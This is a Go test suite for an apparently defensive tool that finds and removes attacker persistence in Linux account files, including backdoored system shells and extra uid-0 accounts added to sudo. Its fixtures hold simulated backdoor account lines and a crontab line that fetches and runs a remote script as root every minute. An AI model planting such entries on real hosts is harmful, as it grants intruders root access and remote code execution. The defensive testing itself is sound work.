package persist

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

var accountFileList = []string{"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"}

func readAll(t *testing.T, dir string, paths ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, p := range paths {
		out[p] = mustRead(t, dir, p)
	}
	return out
}

// replaceLine returns tree with the line of file that starts with prefix
// replaced by line, dated at.
func replaceLine(t *testing.T, tree hosttest.Tree, file, prefix, line string, at time.Time) hosttest.Tree {
	t.Helper()
	e, ok := tree.Get(file)
	if !ok {
		t.Fatalf("no %s", file)
	}
	ls := strings.Split(e.Data, "\n")
	found := false
	for i, l := range ls {
		if strings.HasPrefix(l, prefix) {
			ls[i], found = line, true
		}
	}
	if !found {
		t.Fatalf("%s: no line %q", file, prefix)
	}
	e.Data, e.Mtime = strings.Join(ls, "\n"), at
	return tree.With(e)
}

// A system account the malware gave a shell (a copy of bash) and a
// password is put back — its stock shell, its password locked — and
// never deleted (issue #16). The plan says which, and from where.
func TestBackdooredSystemAccountRestored(t *testing.T) {
	needRoot(t, "chown of the account files")
	at := hosttest.InfectionTime
	const hash = "$6$Qm3t$Yb7nq0e1Kp4cVb8aNmXy2."
	copyOfBash := hosttest.Entry{Path: "/usr/sbin/bashd", Data: hosttest.FakeELF("copy of bash"), Mode: 0o755, Mtime: at}
	tests := []struct {
		name     string
		tree     func(t *testing.T) hosttest.Tree
		user     string
		wantLine string // the passwd line after
		source   string
	}{
		{"debian-base-passwd", func(t *testing.T) hosttest.Tree {
			tr := hosttest.Debian12().With(copyOfBash)
			tr = replaceLine(t, tr, "/etc/passwd", "games:", "games:x:5:60:games:/usr/games:/usr/sbin/bashd", at)
			return replaceLine(t, tr, "/etc/shadow", "games:", "games:"+hash+":20205:0:99999:7:::", at)
		}, "games", "games:x:5:60:games:/usr/games:/usr/sbin/nologin", "base-passwd"},
		{"debian-stock-shell-bash", func(t *testing.T) hosttest.Tree {
			// usermod -s /bin/bash: a real shell, but not the account's.
			tr := replaceLine(t, hosttest.Debian12(), "/etc/passwd", "daemon:", "daemon:x:1:1:daemon:/usr/sbin:/bin/bash", at)
			return replaceLine(t, tr, "/etc/shadow", "daemon:", "daemon:"+hash+":20205:0:99999:7:::", at)
		}, "daemon", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin", "base-passwd"},
		{"amazon-linux-passwd-backup", func(t *testing.T) hosttest.Tree {
			tr := hosttest.AmazonLinux2023().With(copyOfBash)
			tr = tr.With(hosttest.Entry{Path: "/etc/passwd-", Data: mustGetTree(tr, "/etc/passwd"), Mode: 0o644})
			tr = replaceLine(t, tr, "/etc/passwd", "games:", "games:x:12:100:games:/usr/games:/usr/sbin/bashd", at)
			return replaceLine(t, tr, "/etc/shadow", "games:", "games:"+hash+":20205:0:99999:7:::", at)
		}, "games", "games:x:12:100:games:/usr/games:/sbin/nologin", "/etc/passwd-"},
		{"amazon-linux-no-source", func(t *testing.T) hosttest.Tree {
			tr := hosttest.AmazonLinux2023().With(copyOfBash)
			tr = replaceLine(t, tr, "/etc/passwd", "games:", "games:x:12:100:games:/usr/games:/usr/sbin/bashd", at)
			return replaceLine(t, tr, "/etc/shadow", "games:", "games:"+hash+":20205:0:99999:7:::", at)
		}, "games", "games:x:12:100:games:/usr/games:/usr/sbin/nologin", "default for system accounts"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			dir := build(t, tt.tree(t))
			before := snapshot(t, dir)
			p, fs := planFor(t, dir, hosttest.Window())
			var fd *Finding
			for i := range fs {
				if fs[i].Path == "/etc/passwd" && fs[i].User == tt.user {
					fd = &fs[i]
				}
			}
			if fd == nil || fd.Severity < High || fd.Action != ActionRestoreAccount {
				t.Fatalf("finding for %s: %+v", tt.user, fd)
			}
			if len(p.Accounts) != 1 {
				t.Fatalf("plan accounts: %+v", p.Accounts)
			}
			ac := p.Accounts[0]
			if ac.User != tt.user || ac.Op != "restore" || ac.New != tt.wantLine || !ac.LockPassword || !strings.Contains(ac.Source, tt.source) {
				t.Errorf("plan says %+v, want restore to %q from %s with the password locked", ac, tt.wantLine, tt.source)
			}
			if diff := cmp.Diff([]string{"/etc/passwd", "/etc/shadow"}, ac.Files); diff != "" {
				t.Errorf("files (-want +got):\n%s", diff)
			}
			res, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			after := readAll(t, dir, "/etc/passwd", "/etc/shadow")
			var pwLine, shLine string
			for _, l := range strings.Split(after["/etc/passwd"], "\n") {
				if strings.HasPrefix(l, tt.user+":") {
					pwLine = l
				}
			}
			for _, l := range strings.Split(after["/etc/shadow"], "\n") {
				if strings.HasPrefix(l, tt.user+":") {
					shLine = l
				}
			}
			if pwLine != tt.wantLine {
				t.Errorf("passwd line after Apply = %q, want %q (the account stays)", pwLine, tt.wantLine)
			}
			if want := tt.user + ":!" + hash + ":20205:0:99999:7:::"; shLine != want {
				t.Errorf("shadow line after Apply = %q, want %q", shLine, want)
			}
			for _, f := range find(t, dir, hosttest.Window()) {
				if f.Path == "/etc/passwd" && f.User == tt.user && f.Severity > Info {
					t.Errorf("after Apply: %s", f)
				}
			}
			if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
				t.Errorf("after Restore (-before +after):\n%s", diff)
			}
		})
	}
}

func mustGetTree(t hosttest.Tree, p string) string {
	e, _ := t.Get(p)
	return e.Data
}

// uid0Tree: Kinsing's second root "hilde", with its own group and a
// place in sudo and adm (group and gshadow), next to the operator.
func uid0Tree(t *testing.T) hosttest.Tree {
	at := hosttest.InfectionTime
	tr := hosttest.Kinsing(hosttest.Debian12())
	tr = replaceLine(t, tr, "/etc/group", "sudo:", "sudo:x:27:admin,hilde", at)
	tr = replaceLine(t, tr, "/etc/group", "adm:", "adm:x:4:hilde,admin", at)
	tr = tr.Append("/etc/group", "hilde:x:0:\n", at)
	tr = replaceLine(t, tr, "/etc/gshadow", "sudo:", "sudo:*:hilde:admin,hilde", at)
	tr = replaceLine(t, tr, "/etc/gshadow", "adm:", "adm:*::hilde,admin", at)
	return tr.Append("/etc/gshadow", "hilde:!::\n", at)
}

// A second uid-0 account goes from passwd, shadow, group and gshadow in
// one planned change: its lines, its own group, its name in the sudo and
// adm lists (the groups and the operator's membership stay); Restore
// puts all four files back byte- and metadata-identical.
func TestUID0AccountRemovedEverywhere(t *testing.T) {
	needRoot(t, "chown of the account files")
	ctx := context.Background()
	dir := build(t, uid0Tree(t))
	orig := readAll(t, dir, accountFileList...) // (moves the access times: before the snapshot)
	before := snapshot(t, dir)
	p, _ := planFor(t, dir, hosttest.Window())
	var ac *AccountChange
	for i := range p.Accounts {
		if p.Accounts[i].User == "hilde" {
			ac = &p.Accounts[i]
		}
	}
	if ac == nil || ac.Op != "remove" {
		t.Fatalf("plan accounts: %+v", p.Accounts)
	}
	if diff := cmp.Diff([]string{"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"}, ac.Files); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	var set []string
	for _, c := range p.Changes {
		if c.Set == SetAccounts {
			set = append(set, c.Path)
		}
	}
	if diff := cmp.Diff([]string{"/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow"}, set); diff != "" {
		t.Errorf("changes of the accounts set, in order (-want +got):\n%s", diff)
	}
	res, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	drop := func(s string, lines ...string) string {
		for _, l := range lines {
			s = strings.Replace(s, l+"\n", "", 1)
		}
		return s
	}
	want := map[string]string{
		"/etc/passwd":  drop(orig["/etc/passwd"], "hilde:x:0:0::/root:/bin/bash"),
		"/etc/shadow":  drop(orig["/etc/shadow"], "hilde:$6$Vw2x$9hN1bq0o1:20205:0:99999:7:::"),
		"/etc/group":   strings.Replace(strings.Replace(drop(orig["/etc/group"], "hilde:x:0:"), "sudo:x:27:admin,hilde", "sudo:x:27:admin", 1), "adm:x:4:hilde,admin", "adm:x:4:admin", 1),
		"/etc/gshadow": strings.Replace(strings.Replace(drop(orig["/etc/gshadow"], "hilde:!::"), "sudo:*:hilde:admin,hilde", "sudo:*::admin", 1), "adm:*::hilde,admin", "adm:*::admin", 1),
	}
	if diff := cmp.Diff(want, readAll(t, dir, accountFileList...)); diff != "" {
		t.Errorf("account files after Apply (-want +got):\n%s", diff)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	now := snapshot(t, dir)
	for _, f := range accountFileList {
		if diff := cmp.Diff(before[f], now[f]); diff != "" {
			t.Errorf("%s after Restore (-before +after):\n%s", f, diff)
		}
	}
}

// If one of the four files cannot be changed (here shadow, written to
// after the plan), the ones already changed are put back: the account is
// never left half removed, and the manifest keeps none of the set.
func TestAccountSetAllOrNothing(t *testing.T) {
	needRoot(t, "chown of the account files")
	ctx := context.Background()
	dir := build(t, uid0Tree(t))
	orig := readAll(t, dir, accountFileList...)
	p, _ := planFor(t, dir, hosttest.Window())
	fh, err := os.OpenFile(filepath.Join(dir, "etc/shadow"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = fh.WriteString("late:*:20205:0:99999:7:::\n")
	fh.Close()
	orig["/etc/shadow"] += "late:*:20205:0:99999:7:::\n"
	res, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir()})
	if !errors.Is(err, ErrChanged) {
		t.Fatalf("Apply: %v, want ErrChanged", err)
	}
	if diff := cmp.Diff(orig, readAll(t, dir, accountFileList...)); diff != "" {
		t.Errorf("account files after the failed set (-want +got):\n%s", diff)
	}
	m, err := ReadManifest(res.ManifestPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range m.Entries {
		if e.Set == SetAccounts || accountFiles[e.Path] {
			t.Errorf("manifest keeps %s %s of the backed-out set", e.Op, e.Path)
		}
	}
}

// TeamTNT's "hilde", added inside the window and to sudo: the default
// plan takes hilde out of sudo's member lists in group and gshadow (the
// group, and the operator's place in it, stay) and removes the account
// with its own group.
func TestGroupMemberRemovedNotGroup(t *testing.T) {
	ctx := context.Background()
	tree := hosttest.TeamTNT(hosttest.Debian12())
	tree = replaceLine(t, tree, "/etc/gshadow", "sudo:", "sudo:*::admin,hilde", hosttest.InfectionTime)
	dir := build(t, tree)
	orig := readAll(t, dir, "/etc/group", "/etc/gshadow", "/etc/passwd")
	p, fs := planFor(t, dir, hosttest.Window())
	var fd *Finding
	for i := range fs {
		if fs[i].Path == "/etc/group" && strings.HasPrefix(fs[i].Content, "sudo:") {
			fd = &fs[i]
		}
	}
	if fd == nil || fd.Severity < High || fd.Action != ActionRemoveMember || !cmp.Equal(fd.Members, []string{"hilde"}) {
		t.Fatalf("sudo finding: %+v", fd)
	}
	if _, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"/etc/group":   strings.Replace(strings.Replace(orig["/etc/group"], "\nsudo:x:27:admin,hilde\n", "\nsudo:x:27:admin\n", 1), "\nhilde:x:1001:\n", "\n", 1),
		"/etc/gshadow": strings.Replace(orig["/etc/gshadow"], "\nsudo:*::admin,hilde\n", "\nsudo:*::admin\n", 1),
		"/etc/passwd":  strings.Replace(orig["/etc/passwd"], "\nhilde:x:1001:1001::/home/hilde:/bin/bash\n", "\n", 1),
	}
	if diff := cmp.Diff(want, readAll(t, dir, "/etc/group", "/etc/gshadow", "/etc/passwd")); diff != "" {
		t.Errorf("after Apply (-want +got):\n%s", diff)
	}
}

// The stock memberships of the image's default user (cloud-init's
// default_user groups: sudo, adm, wheel, lxd …) are never findings above
// info, even when the incident window covers the launch (a bot finds a
// new instance minutes after it boots, so the user's home is "new").
func TestStockMembershipsStayInfo(t *testing.T) {
	for name, tree := range map[string]hosttest.Tree{
		"debian12":        hosttest.Debian12(),
		"ubuntu2204":      hosttest.Ubuntu2204(),
		"amazonlinux2023": hosttest.AmazonLinux2023(),
	} {
		t.Run(name, func(t *testing.T) {
			dir := build(t, tree)
			for _, f := range find(t, dir, hosttest.Epoch.Add(-time.Hour)) {
				if f.Kind == KindAccount && f.Severity > Info && (f.Path == "/etc/group" || f.Path == "/etc/gshadow" || f.Path == "/etc/passwd" || f.Path == "/etc/shadow") {
					t.Errorf("stock account record: %s", f)
				}
			}
		})
	}
}

func TestParseCloudUsers(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []cloudUser
	}{
		{"default-user", "users:\n   - default\nsystem_info:\n   default_user:\n     name: ec2-user\n     groups: [wheel, adm, systemd-journal]\n     shell: /bin/bash\n",
			[]cloudUser{{Name: "ec2-user", Groups: []string{"wheel", "adm", "systemd-journal"}, Shell: "/bin/bash"}}},
		{"users-string-groups", "users:\n  - default\n  - name: ops\n    groups: sudo, docker\n",
			[]cloudUser{{Name: "ops", Groups: []string{"sudo", "docker"}}}},
		{"bad-name", "users:\n  - name: 'a:b'\n", nil},
		{"not-yaml", "users: [\n", nil},
		{"aliases-refused", "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nsystem_info:\n  default_user:\n    name: admin\n    groups: *b\n", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, parseCloudUsers([]byte(tt.in))); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// An account Find asked to restore is never removed by Plan, even when
// the root no longer gives anything to restore it to.
func TestPlanNeverRemovesAccountToRestore(t *testing.T) {
	dir := build(t, hosttest.Debian12().Append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n", hosttest.InfectionTime))
	f := Finding{Path: "/etc/passwd", Line: 24, Kind: KindAccount, Severity: Critical, Content: "toor:x:0:0::/root:/bin/bash", User: "toor", Action: ActionRestoreAccount}
	p, err := Plan(context.Background(), []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Changes) != 0 || len(p.Accounts) != 0 {
		t.Errorf("plan removes an account Find asked to restore: %+v %+v", p.Changes, p.Accounts)
	}
}

// An administrator's shell for www-data (deployments) without a password
// is not high: the default plan leaves the account alone.
func TestSystemAccountShellWithoutPasswordNotActed(t *testing.T) {
	tr := replaceLine(t, hosttest.Debian12(), "/etc/passwd", "www-data:", "www-data:x:33:33:www-data:/var/www:/bin/bash", hosttest.InfectionTime)
	dir := build(t, tr)
	p, fs := planFor(t, dir, hosttest.Window())
	for _, f := range fs {
		if f.User == "www-data" && f.Severity >= High {
			t.Errorf("high: %s", f)
		}
	}
	if c := planned(p, "/etc/passwd"); c != nil {
		t.Errorf("default plan changes passwd: %+v", c.Lines)
	}
}

// On the live root, account changes come with the name-service cache
// invalidations the host needs (nscd, sssd), and only then.
func TestAccountReloadsLive(t *testing.T) {
	tree := uid0Tree(t).With(
		hosttest.Entry{Path: "/usr/sbin/nscd", Data: hosttest.FakeELF("nscd"), Mode: 0o755},
		hosttest.Entry{Path: "/usr/sbin/sss_cache", Data: hosttest.FakeELF("sss_cache"), Mode: 0o755})
	dir := build(t, tree)
	treatAsLive(t, dir, nil)
	p, _ := planFor(t, dir, hosttest.Window())
	var got []string
	for _, r := range p.Reloads {
		if r.Command[0] == "nscd" || r.Command[0] == "sss_cache" {
			got = append(got, strings.Join(r.Command, " "))
		}
	}
	if diff := cmp.Diff([]string{"nscd -i passwd", "nscd -i group", "sss_cache -E"}, got); diff != "" {
		t.Errorf("reloads (-want +got):\n%s", diff)
	}
	// No account change: no cache invalidation.
	dir2 := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/usr/sbin/nscd", Data: hosttest.FakeELF("nscd"), Mode: 0o755}).
		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime))
	treatAsLive(t, dir2, nil)
	p2, _ := planFor(t, dir2, hosttest.Window())
	for _, r := range p2.Reloads {
		if r.Command[0] == "nscd" {
			t.Errorf("nscd reload without an account change: %v", r.Command)
		}
	}
}

// /etc/group changed inside the window, with /etc/group- (the copy
// shadow's tools leave) from before: a group and a membership the last
// change added are medium (remove-line, remove-member); without the copy
// they are not findings.
func TestGroupAddedSincePrevCopy(t *testing.T) {
	at := hosttest.InfectionTime
	base := hosttest.Debian12()
	g, _ := base.Get("/etc/group")
	prev := hosttest.Entry{Path: "/etc/group-", Data: g.Data, Mode: 0o644, Mtime: hosttest.Epoch}
	tr := replaceLine(t, base, "/etc/group", "disk:", "disk:x:6:admin", at)
	tr = tr.Append("/etc/group", "miner:x:1002:\n", at)
	for _, withPrev := range []bool{true, false} {
		tree := tr
		if withPrev {
			tree = tree.With(prev)
		}
		dir := build(t, tree)
		got := map[string]Finding{}
		for _, f := range find(t, dir, hosttest.Window()) {
			if f.Path == "/etc/group" {
				got[strings.SplitN(f.Content, ":", 2)[0]] = f
			}
		}
		disk, miner := got["disk"], got["miner"]
		if !withPrev {
			if disk.Severity > Info || miner.Severity > Info {
				t.Errorf("without /etc/group-: disk %s; miner %s", disk, miner)
			}
			continue
		}
		if disk.Severity != Medium || disk.Action != ActionRemoveMember || !cmp.Equal(disk.Members, []string{"admin"}) {
			t.Errorf("disk: %s (action %s, members %v)", disk, disk.Action, disk.Members)
		}
		if miner.Severity != Medium || miner.Action != ActionRemoveLine {
			t.Errorf("miner: %s (action %s)", miner, miner.Action)
		}
	}
}

// Malware makes /etc/passwd and /etc/shadow immutable so that its account
// cannot be removed: the set is still made (flags cleared, and left
// cleared as the immutable finding asks), and Restore puts contents and
// flags back.
func TestUID0AccountImmutableFiles(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	tree := uid0Tree(t)
	for _, p := range []string{"/etc/passwd", "/etc/shadow"} {
		e, _ := tree.Get(p)
		e.Immutable = true
		tree = tree.With(e)
	}
	dir := build(t, tree)
	needFlags(t)
	orig := readAll(t, dir, accountFileList...)
	before := snapshot(t, dir)
	p, _ := planFor(t, dir, hosttest.Window())
	res, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range accountFileList {
		if strings.Contains(mustRead(t, dir, f), "hilde") {
			t.Errorf("%s still names hilde", f)
		}
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	now := snapshot(t, dir)
	for _, f := range accountFileList {
		if diff := cmp.Diff(before[f], now[f]); diff != "" {
			t.Errorf("%s after Restore (-before +after):\n%s", f, diff)
		}
	}
	if diff := cmp.Diff(orig, readAll(t, dir, accountFileList...)); diff != "" {
		t.Errorf("contents after Restore (-want +got):\n%s", diff)
	}
}
